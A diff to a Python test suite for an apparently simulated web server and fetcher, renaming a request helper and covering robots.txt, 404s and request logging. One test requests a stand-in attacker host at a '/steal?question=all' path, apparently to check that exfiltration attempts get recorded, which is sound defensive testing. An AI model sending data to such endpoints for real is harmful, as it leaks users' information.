@@ -110,7 +110,7 @@ def settled(server):
     return server.requests
 
 
-def asked(server, host, path, **options):
+def request_page(server, host, path, **options):
     return httpx.get(f"http://{server.address}{path}", headers={"Host": host}, timeout=2.0, **options)
 
 
@@ -144,12 +144,12 @@ def test_robots_are_kept_out_of_one_sites_private_pages(server_generated_web, pa
     got = read(private.url)
     assert isinstance(got, Unreadable) and "robots.txt" in got.reason and not got.lasting
     elsewhere = page_that(pages, Treatment.MOVED).host
-    assert asked(server_generated_web, elsewhere, "/robots.txt").text == "User-agent: *\nDisallow: \n"
+    assert request_page(server_generated_web, elsewhere, "/robots.txt").text == "User-agent: *\nDisallow: \n"
 
 
 def test_what_no_site_has_is_not_found_by_any_engine(server_generated_web):
-    assert asked(server_generated_web, "nobody.example", "/").status_code == 404
-    assert asked(server_generated_web, "attacker.example", "/steal?question=all").status_code == 200
+    assert request_page(server_generated_web, "nobody.example", "/").status_code == 404
+    assert request_page(server_generated_web, "attacker.example", "/steal?question=all").status_code == 200
     assert ReceivedRequest("GET", "attacker.example", "/steal?question=all", done=True) in settled(server_generated_web)
 
 
@@ -157,7 +157,7 @@ def test_requests_are_recorded_in_order_and_those_without_an_answer_are_not_done
     with_slow = page_that(pages, Treatment.SLOW)
     other = GeneratedWebServer({with_slow.url: with_slow})
     Fetcher(timeout=0.1, robots=False, hosts={".example": other.address}).page(with_slow.url)
-    asked(other, "nobody.example", "/x")
+    request_page(other, "nobody.example", "/x")
     slow, missing = settled(other)
     assert slow == ReceivedRequest("GET", with_slow.host, with_slow.path, done=False)
     assert missing == ReceivedRequest("GET", "nobody.example", "/x", done=True)
